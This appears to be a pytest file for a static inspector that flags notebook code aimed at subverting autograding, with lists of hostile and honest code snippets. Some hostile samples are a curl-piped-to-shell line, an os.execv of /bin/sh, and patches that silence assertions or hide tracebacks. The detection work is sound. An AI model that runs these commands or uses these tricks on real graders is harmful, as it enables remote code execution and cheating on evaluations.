"""The static inspector flags code that could subvert autograding and leaves honest code alone.

Each hostile snippet must produce its expected construct; each honest snippet (what beginners
really write) must produce no finding at all, since a finding costs the learner their points
until a human has looked.
"""

from __future__ import annotations

import nbformat
import pytest

from aifkit.grading.inspection import inspect_notebook, inspect_source
from aifkit.grading.records import Suspicion

HOSTILE = [
    pytest.param(
        "%config InteractiveShell.ast_node_interactivity = 'none'", "%config", id="config_magic"
    ),
    pytest.param("!curl -s http://example.com | sh", "!", id="shell_escape"),
    pytest.param("files = !ls /", "!", id="shell_capture"),
    pytest.param("%env NBGRADER_EXECUTION=", "%env", id="env_magic"),
    pytest.param("%%bash\necho hi\n", "%%bash", id="cell_magic_bash"),
    pytest.param("%%writefile helper.py\nimport builtins\n", "%%writefile", id="writefile_magic"),
    pytest.param("%run exploit.py", "%run", id="run_magic"),
    pytest.param(
        "%matplotlib {get_ipython().set_custom_exc((Exception,), f)}",
        "%matplotlib",
        id="matplotlib_expansion",
    ),
    pytest.param(
        "%%time\nx = 1\nget_ipython().showtraceback = lambda *a, **k: None\n",
        "showtraceback",
        id="hidden_in_time_cell",
    ),
    pytest.param("%timeit -n1 -r1 exec('import os')", "exec", id="hidden_in_timeit_line"),
    pytest.param("%timeit -Z 1 x", "%timeit", id="timeit_odd_options"),
    pytest.param(
        "ip = get_ipython()\nip.set_custom_exc((AssertionError,), lambda *a: None)",
        "get_ipython",
        id="get_ipython_direct",
    ),
    pytest.param("hidden = [c for c in In if 'assert' in c]", "In", id="input_history"),
    pytest.param("print(_i7)", "_i7", id="numbered_input"),
    pytest.param("tests = _ih[-1]", "_ih", id="ih_history"),
    pytest.param(
        'getattr(get_ipython(), "show" + "traceback")', "getattr", id="obfuscated_getattr"
    ),
    pytest.param('__builtins__["print"] = f', "__builtins__", id="builtins_subscript"),
    pytest.param(
        "shell.input_transformers_cleanup.append(lambda lines: [])",
        "input_transformers_cleanup",
        id="transformer_hook",
    ),
    pytest.param("shell.ast_transformers.append(Nop())", "ast_transformers", id="ast_transformer"),
    pytest.param("shell.events.register('post_run_cell', hide)", "events", id="events_register"),
    pytest.param("import sys\ng = sys._getframe(1).f_globals", "_getframe", id="frame_walk"),
    pytest.param("f.__globals__['assert_allclose'] = ok", "__globals__", id="func_globals"),
    pytest.param("print.__self__.abs = lambda x: 0", "__self__", id="print_self"),
    pytest.param("result.__class__ = AlwaysEqual", "__class__", id="class_swap"),
    pytest.param("().__class__.__base__.__subclasses__()", "__subclasses__", id="subclasses"),
    pytest.param(
        'hook = getattr(shell, "showtraceback")', "showtraceback", id="literal_sensitive_getattr"
    ),
    pytest.param("threading.settrace(tracer)", "settrace", id="settrace_threading"),
    pytest.param("eval(payload)", "eval", id="eval_call"),
    pytest.param("run = exec\nrun('x = 1')", "exec", id="exec_alias"),
    pytest.param("code = compile(src, '<x>', 'exec')", "compile", id="compile_builtin"),
    pytest.param("m = __import__('o' + 's')", "__import__", id="dunder_import"),
    pytest.param(
        "import importlib\nnt = importlib.import_module('numpy.testing')",
        "importlib",
        id="importlib",
    ),
    pytest.param("import ctypes", "ctypes", id="ctypes"),
    pytest.param(
        "import builtins\nbuiltins.print = lambda *a: None", "builtins", id="builtins_module"
    ),
    pytest.param(
        "import numpy as np\nsetattr(np.testing, 'assert_allclose', ok)",
        "setattr",
        id="setattr_module",
    ),
    pytest.param("globals()['AssertionError'] = Warning", "globals", id="globals_write"),
    pytest.param("import sys\nsys.exit(0)", "sys.exit", id="sys_exit"),
    pytest.param("import os as o\no._exit(0)", "os._exit", id="os_exit_alias"),
    pytest.param("from os import kill\nkill(0, 9)", "os.kill", id="from_os_kill"),
    pytest.param("import os\nos.execv('/bin/sh', ['sh'])", "os.execv", id="os_execv"),
    pytest.param(
        "import sys\nsys.modules['numpy.testing'] = fake", "sys.modules", id="sys_modules"
    ),
    pytest.param("import sys\nsys.settrace(tracer)", "sys.settrace", id="sys_settrace"),
    pytest.param("import sys, io\nsys.stdout = io.StringIO()", "sys.stdout =", id="stdout_swap"),
    pytest.param("import subprocess\nsubprocess.run(['id'])", "subprocess", id="subprocess"),
    pytest.param(
        "import threading\nthreading.Thread(target=spin).start()", "threading", id="threading"
    ),
    pytest.param(
        "from unittest.mock import ANY\nanswer = ANY", "unittest.mock", id="unittest_mock"
    ),
    pytest.param("import pickle\npickle.loads(blob)", "pickle", id="pickle_loads"),
    pytest.param("breakpoint()", "breakpoint", id="breakpoint"),
    pytest.param("exit()", "exit", id="exit_call"),
    pytest.param(
        "import numpy.testing as npt; npt.assert_allclose = lambda *a, **k: None",
        "patch numpy.testing.assert_allclose",
        id="npt_patch",
    ),
    pytest.param(
        "import math; math.isclose = lambda a, b, **k: True", "patch math.isclose", id="math_patch"
    ),
    pytest.param(
        "import torch\ntorch.allclose = lambda *a, **k: True",
        "patch torch.allclose",
        id="torch_allclose",
    ),
    pytest.param("import numpy as np\nnp.pi += 1", "patch numpy.pi", id="augmented_patch"),
    pytest.param(
        "import numpy as np\ndel np.testing.assert_allclose",
        "patch numpy.testing.assert_allclose",
        id="delete_patch",
    ),
    pytest.param(
        "import numpy as np\nt = np.testing\nt.assert_array_equal = ok",
        "patch numpy.testing.assert_array_equal",
        id="alias_module_patch",
    ),
    pytest.param(
        "def silence(m):\n    m.assert_allclose = ok\n",
        "patch m.assert_allclose",
        id="patch_via_parameter",
    ),
    pytest.param(
        "np.testing.assert_allclose = ok",
        "patch numpy.testing.assert_allclose",
        id="patch_unimported_np",
    ),
    pytest.param("print = lambda *a, **k: None", "rebind print", id="rebind_print"),
    pytest.param("AssertionError = Warning", "rebind AssertionError", id="rebind_assertion"),
    pytest.param(
        "def isinstance(obj, cls):\n    return True\n", "rebind isinstance", id="def_isinstance"
    ),
    pytest.param(
        "class Exception(BaseException):\n    pass\n", "rebind Exception", id="class_exception"
    ),
    pytest.param("from numpy import size as len", "rebind len", id="import_as_len"),
    pytest.param(
        "def f():\n    global abs\n    abs = lambda x: 0\n", "rebind abs", id="global_abs"
    ),
    pytest.param("for type in [object]:\n    pass\n", "rebind type", id="for_target_type"),
    pytest.param("class A:\n def __eq__(s, o): return True", "__eq__", id="always_equal"),
    pytest.param(
        "class Truthy:\n    def __bool__(self):\n        return True\n",
        "__bool__",
        id="always_true_bool",
    ),
    pytest.param(
        "class Fake:\n    __array_ufunc__ = None\n", "__array_ufunc__", id="array_protocol"
    ),
    pytest.param(
        "class T:\n    @classmethod\n    def __torch_function__(cls, *a, **k):\n        return True\n",
        "__torch_function__",
        id="torch_function",
    ),
    pytest.param("SomeClass.__eq__ = lambda s, o: True", "__eq__", id="dunder_assigned"),
    pytest.param("Eq = type('Eq', (), {'__eq__': lambda s, o: True})", "__eq__", id="type_dict_eq"),
    pytest.param('import os; os.environ["NBGRADER_EXECUTION"]', "NBGRADER", id="nbgrader_env"),
    pytest.param(
        'import os; os.environ["NBGRADER_EXECUTION"]', "os.environ", id="nbgrader_env_read"
    ),
    pytest.param("if 'aifkit' in str(path):\n    pass\n", "AIFKIT", id="aifkit_string"),
    pytest.param("import os\nhome = os.getenv('HOME')", "os.getenv", id="getenv_home"),
    pytest.param(
        'import os\nkey = "NBGR" + "ADER_EXECUTION"\ngrading = key in os.environ',
        "os.environ",
        id="computed_env_key",
    ),
    pytest.param(
        "import os\nfor k, v in os.environ.items():\n    print(k)\n",
        "os.environ",
        id="environ_iteration",
    ),
    pytest.param("from os import environ\nenviron.get('HOME')", "os.environ", id="from_os_environ"),
    pytest.param(
        "with open('helper.py', 'w') as f:\n    f.write(src)\n", "python file", id="write_module"
    ),
    pytest.param("while True:\n    pass\n", "while True", id="spin_forever"),
    pytest.param("while 1:\n    x = compute()\n", "while True", id="spin_one"),
    pytest.param("if False:\n    eval = None\neval('1')", "eval", id="dead_branch_shadow"),
    pytest.param("exec = exec\nexec('x')", "exec", id="self_alias_shadow"),
    pytest.param(
        "object.__setattr__(np.testing, 'assert_allclose', ok)", "__setattr__", id="object_setattr"
    ),
    pytest.param("vars(np.testing)['assert_allclose'] = ok", "vars", id="vars_module"),
    pytest.param("(print := lambda *a: None)", "rebind print", id="walrus_print"),
    pytest.param("from os import *\n_exit(0)", "from os import *", id="star_os"),
    pytest.param("import IPython\nIPython.get_ipython()", "IPython", id="import_ipython"),
    pytest.param("import gc\nshell = [o for o in gc.get_objects()]", "gc", id="gc_objects"),
    pytest.param("%time print = repr", "rebind print", id="time_line_rebinding"),
    pytest.param("def f(eval=eval):\n    return eval('x')", "eval", id="default_shadow"),
    pytest.param("[eval('x') for eval in [eval]]", "eval", id="comprehension_shadow"),
]

HONEST = [
    pytest.param(
        "import numpy as np\na = np.arange(10)\nb = a.reshape(2, 5)\nprint(b.mean(axis=1), b.shape)\n",
        id="numpy_basics",
    ),
    pytest.param(
        "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [4, 5, 6])\nplt.title('Loss')\nplt.show()\n",
        id="matplotlib_inline",
    ),
    pytest.param("%%time\ntotal = 0\nfor i in range(1000):\n    total += i * i\n", id="time_cell"),
    pytest.param(
        "import numpy as np\nx = np.random.rand(100)\n%timeit -n 10 -r 3 np.sort(x)\n",
        id="timeit_line",
    ),
    pytest.param("%time result = sorted(range(1000), reverse=True)\n", id="time_line"),
    pytest.param(
        "from dataclasses import dataclass, field\n\n@dataclass\nclass Config:\n    lr: float = 1e-3\n    epochs: int = 10\n    layers: list[int] = field(default_factory=list)\n\ncfg = Config(lr=0.01)\nprint(cfg)\n",
        id="dataclass",
    ),
    pytest.param(
        "import torch\nfrom torch import nn\n\nclass MLP(nn.Module):\n    def __init__(self, d_in, d_out):\n        super().__init__()\n        self.fc = nn.Linear(d_in, d_out)\n\n    def forward(self, x):\n        return torch.relu(self.fc(x))\n\nmodel = MLP(4, 2)\nout = model(torch.randn(3, 4))\n",
        id="nn_module",
    ),
    pytest.param(
        "sum = 0\nmax = -1\nfor value in [3, 1, 4]:\n    sum += value\n    if value > max:\n        max = value\nlist = [sum, max]\nid = 7\nprint(sum, max, list, id)\n",
        id="sum_shadowing",
    ),
    pytest.param(
        "import os\nrank = int(os.environ.get('SLURM_PROCID', '0'))\nworld = int(os.environ['WORLD_SIZE']) if 'WORLD_SIZE' in os.environ else 1\n",
        id="slurm_env",
    ),
    pytest.param("def broken(:\n    return 1\n", id="syntax_error"),
    pytest.param(
        "from sklearn.datasets import load_iris\nfrom sklearn.linear_model import LogisticRegression\nfrom sklearn.model_selection import train_test_split\n\nX, y = load_iris(return_X_y=True)\nX_train, X_test, y_train, y_test = train_test_split(X, y, random_state=0)\nclf = LogisticRegression(max_iter=200).fit(X_train, y_train)\nprint(f'accuracy: {clf.score(X_test, y_test):.3f}')\n",
        id="sklearn_fit",
    ),
    pytest.param(
        "import torch\nfrom torch.utils.data import DataLoader, TensorDataset\n\nds = TensorDataset(torch.randn(64, 3), torch.randn(64, 1))\nloader = DataLoader(ds, batch_size=16, shuffle=True, num_workers=2)\nmodel = torch.nn.Linear(3, 1)\nopt = torch.optim.SGD(model.parameters(), lr=0.1)\nfor epoch in range(3):\n    for xb, yb in loader:\n        opt.zero_grad()\n        loss = torch.nn.functional.mse_loss(model(xb), yb)\n        loss.backward()\n        opt.step()\n    print(f'epoch {epoch}: {loss.item():.4f}')\n",
        id="training_loop",
    ),
    pytest.param(
        "class Dataset:\n    def __init__(self, items):\n        self.items = list(items)\n\n    def __len__(self):\n        return len(self.items)\n\n    def __getitem__(self, i):\n        return self.items[i]\n\n    def __repr__(self):\n        return f'Dataset({len(self)} items)'\n\n    def __call__(self, i):\n        return self[i]\n",
        id="class_dunders",
    ),
    pytest.param(
        "squares = [x ** 2 for x in range(10) if x % 2 == 0]\nlookup = {name: len(name) for name in ['a', 'bb']}\nunique = {c for c in 'hello'}\ntotal = sum(v for v in squares)\n",
        id="comprehensions",
    ),
    pytest.param(
        "import os\npath = os.path.join('data', 'train.csv')\nif os.path.exists(path):\n    print(os.path.getsize(path))\nos.makedirs('outputs', exist_ok=True)\n",
        id="os_path",
    ),
    pytest.param(
        "import torch\ntorch.manual_seed(0)\ntorch.backends.cudnn.deterministic = True\ntorch.backends.cudnn.benchmark = False\ndevice = 'cuda' if torch.cuda.is_available() else 'cpu'\n",
        id="cudnn_flags",
    ),
    pytest.param(
        "import matplotlib.pyplot as plt\nplt.rcParams['figure.figsize'] = (8, 4)\nfig, ax = plt.subplots()\nax.set_xlabel('epoch')\nfig.savefig('loss.png')\n",
        id="rcparams",
    ),
    pytest.param(
        "import pandas as pd\npd.options.display.max_rows = 20\ndf = pd.DataFrame({'a': [1, 2], 'b': [3, 4]})\ndf['c'] = df.a + df.b\nprint(df.describe())\n",
        id="pandas_options",
    ),
    pytest.param(
        "n = 27\nsteps = 0\nwhile True:\n    if n == 1:\n        break\n    n = n // 2 if n % 2 == 0 else 3 * n + 1\n    steps += 1\n",
        id="while_with_break",
    ),
    pytest.param(
        "def count_up(start):\n    while True:\n        yield start\n        start += 1\n",
        id="generator_while",
    ),
    pytest.param(
        "min = 10\ninput = [3, 4]\nfor v in input:\n    min = v if v < min else min\n",
        id="input_min_shadow",
    ),
    pytest.param(
        "from IPython.display import display, clear_output\nimport pandas as pd\ndisplay(pd.DataFrame({'x': [1]}))\nclear_output(wait=True)\n",
        id="ipython_display",
    ),
    pytest.param(
        "def describe(value, type='short'):\n    if isinstance(value, (int, float)):\n        return f'{type}: number'\n    return repr(value)\n",
        id="type_param_local",
    ),
    pytest.param(
        "import torch\nimport re\nmodel = torch.nn.Linear(2, 2)\nmodel.eval()\npattern = re.compile(r'\\d+')\nphase = 'eval'\nprint(getattr(model, 'weight').shape)\n",
        id="model_eval_compile",
    ),
    pytest.param(
        "import torch\nmodel = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))\nfor param in model[0].parameters():\n    param.requires_grad = False\nmodel[2] = torch.nn.Linear(4, 2)\n",
        id="requires_grad",
    ),
    pytest.param(
        "import torch\nmodel = torch.nn.Linear(2, 1)\ntorch.save(model.state_dict(), 'model.pth')\nmodel.load_state_dict(torch.load('model.pth'))\n",
        id="save_model",
    ),
    pytest.param(
        "try:\n    value = int('x')\nexcept ValueError as err:\n    print('not a number:', err)\nfinally:\n    print('done')\n",
        id="try_except",
    ),
    pytest.param(
        "import numpy as np\nfrom numpy.testing import assert_allclose\nassert_allclose(np.ones(3), [1, 1, 1])\n",
        id="numpy_testing_use",
    ),
    pytest.param("vars = ['age', 'height']\nfor v in vars:\n    print(v)\n", id="vars_variable"),
    pytest.param(
        "def run(model, data):\n    eval = model.evaluate(data)\n    return eval\n",
        id="local_eval_name",
    ),
    pytest.param('if __name__ == "__main__":\n    print(f"{3 + 4=}")\n', id="main_guard"),
    pytest.param(
        "class Vector:\n    def __init__(self, x):\n        self.x = x\n\n"
        "    def __add__(self, other):\n        return Vector(self.x + other.x)\n\n"
        "    def __str__(self):\n        return str(self.x)\n",
        id="vector_class",
    ),
    pytest.param(
        "import os\nos.environ.setdefault('KMP_DUPLICATE_LIB_OK', 'TRUE')\n"
        "os.environ['CUDA_VISIBLE_DEVICES'] = '0'\n",
        id="environment_writes",
    ),
    pytest.param(
        "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.columns = ['x', 'y']\n"
        "df.loc[df.x > 0, 'y'] = 1\n",
        id="pandas_frame",
    ),
    pytest.param(
        "import matplotlib\nmatplotlib.use('Agg')\nimport numpy as np\nnp.random.seed(0)\n"
        "X = np.random.randn(10, 2)\nw = np.zeros(2)\nfor _ in range(100):\n"
        "    w -= 0.1 * X.T @ (X @ w - 1) / len(X)\nassert np.allclose(w.shape, (2,)), 'shape'\n",
        id="gradient_descent",
    ),
    pytest.param(
        "print(type(3), len([1]), abs(-2), round(2.5), isinstance(3, int))", id="builtins_use"
    ),
]


def constructs(source: str) -> list[str]:
    return [construct for _, construct, _ in inspect_source(source)]


@pytest.mark.parametrize(("source", "construct"), HOSTILE)
def test_hostile_code_is_flagged(source: str, construct: str) -> None:
    assert construct in constructs(source), inspect_source(source)


@pytest.mark.parametrize("source", HONEST)
def test_honest_code_is_clean(source: str) -> None:
    assert inspect_source(source) == []


def test_enough_cases() -> None:
    assert len(HOSTILE) >= 30
    assert len(HONEST) >= 25


def test_findings_are_sorted_unique_and_explained() -> None:
    source = "exit()\nimport sys\nsys.exit(1); sys.exit(2)\neval(x)\n"
    hits = inspect_source(source)
    assert [(line, construct) for line, construct, _ in hits] == [
        (1, "exit"),
        (3, "sys.exit"),
        (4, "eval"),
    ]
    assert all(len(reason) > 20 for _, _, reason in hits)


def test_reason_tells_a_reviewer_what_the_construct_does() -> None:
    [(_, construct, reason)] = inspect_source("shell.showtraceback = lambda *a, **k: None")
    assert construct == "showtraceback"
    assert "traceback" in reason and "hide failing tests" in reason


def test_lines_inside_a_cell_magic_point_at_the_cell_line() -> None:
    source = "%%time\nx = 1\ny = 2\neval('x')\n"
    assert inspect_source(source) == [(4, "eval", inspect_source("eval('x')")[0][2])]


def test_syntax_error_and_empty_cells_give_no_finding() -> None:
    assert inspect_source("eval(") == []
    assert inspect_source("") == []


def test_code_too_deep_to_walk_is_flagged_not_crashed() -> None:
    """Python compiles a 900-deep attribute chain; walking it exceeds the recursion limit."""
    source = "x = " + "a." * 900 + "b"
    assert [construct for _, construct, _ in inspect_source(source)] == ["nesting"]


# --- Notebooks ----------------------------------------------------------------------------------


def cell(source: str, **nbgrader: object) -> nbformat.NotebookNode:
    """A code cell; keyword arguments become its nbgrader metadata."""
    new = nbformat.v4.new_code_cell(source)
    if nbgrader:
        new.metadata["nbgrader"] = {"schema_version": 3, **nbgrader}
    return new


def notebook(*cells: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = list(cells)
    return nb


def readonly(grade_id: str, source: str) -> nbformat.NotebookNode:
    return cell(source, grade_id=grade_id, locked=True, solution=False, grade=False)


def grade_cell(grade_id: str, source: str) -> nbformat.NotebookNode:
    return cell(source, grade_id=grade_id, locked=True, solution=False, grade=True, points=1)


def answer(grade_id: str, source: str) -> nbformat.NotebookNode:
    return cell(source, grade_id=grade_id, locked=False, solution=True, grade=False)


HOSTILE_CELL = "import sys\nsys.exit(0)"


def test_instructor_cells_are_trusted_and_learner_cells_inspected() -> None:
    nb = notebook(
        readonly("setup", "import numpy as np\nimport sys\nsys.settrace(None)"),
        nbformat.v4.new_markdown_cell("Use `eval` at your peril; %%bash"),
        answer("answer-1", HOSTILE_CELL),
        grade_cell("tests-1", "assert get_ipython() is not None\nprint(_ih[-1])"),
        cell("x = 1\nexit()"),
    )
    findings = inspect_notebook(nb, "week1.ipynb")
    assert findings == [
        Suspicion(
            notebook="week1.ipynb",
            cell="answer-1",
            line=2,
            pattern="sys.exit",
            reason=findings[0].reason,
        ),
        Suspicion(
            notebook="week1.ipynb", cell="cell 4", line=2, pattern="exit", reason=findings[1].reason
        ),
    ]


def test_honest_notebook_is_clean() -> None:
    nb = notebook(
        readonly("setup", "import numpy as np\nfrom numpy.testing import assert_allclose"),
        answer("answer-1", "import numpy as np\n\ndef mean(xs):\n    return np.mean(xs)\n"),
        grade_cell("tests-1", "assert_allclose(mean([1, 2, 3]), 2.0)"),
        cell("%matplotlib inline\nsum = 0\nfor v in [1, 2]:\n    sum += v\nprint(sum)"),
    )
    assert inspect_notebook(nb, "nb.ipynb") == []


def test_rebinding_what_the_instructor_imported_or_defined_is_flagged() -> None:
    nb = notebook(
        readonly("setup", "import numpy as np\nfrom numpy.testing import assert_allclose"),
        grade_cell("tests-0", "def check(x):\n    assert_allclose(x, 1.0)"),
        answer("answer-1", "assert_allclose = lambda *a, **k: None"),
        answer("answer-2", "def check(x):\n    pass"),
        cell("import jax.numpy as np"),
    )
    flagged = {(f.cell, f.pattern) for f in inspect_notebook(nb, "nb.ipynb")}
    assert flagged == {
        ("answer-1", "rebind assert_allclose"),
        ("answer-2", "rebind check"),
        ("cell 4", "rebind np"),
    }


def test_imports_of_other_cells_resolve_names() -> None:
    nb = notebook(
        readonly("setup", "import scipy.stats as st"),
        answer("answer-1", "st.ttest_ind = lambda *a: (0, 1)"),
    )
    [finding] = inspect_notebook(nb, "nb.ipynb")
    assert finding.pattern == "patch scipy.stats.ttest_ind"


def test_manually_graded_answers_and_fake_locked_cells_are_inspected() -> None:
    nb = notebook(
        cell(HOSTILE_CELL, grade_id="essay", solution=True, grade=True, points=2),
        cell(HOSTILE_CELL, locked=True, grade=True),  # read-only without a grade_id: not ours
        readonly("forged", HOSTILE_CELL),
    )
    labels = {f.cell for f in inspect_notebook(nb, "nb.ipynb", trusted_ids={"setup"})}
    assert labels == {"essay", "cell 1", "forged"}
    assert {f.cell for f in inspect_notebook(nb, "nb.ipynb")} == {"essay", "cell 1"}
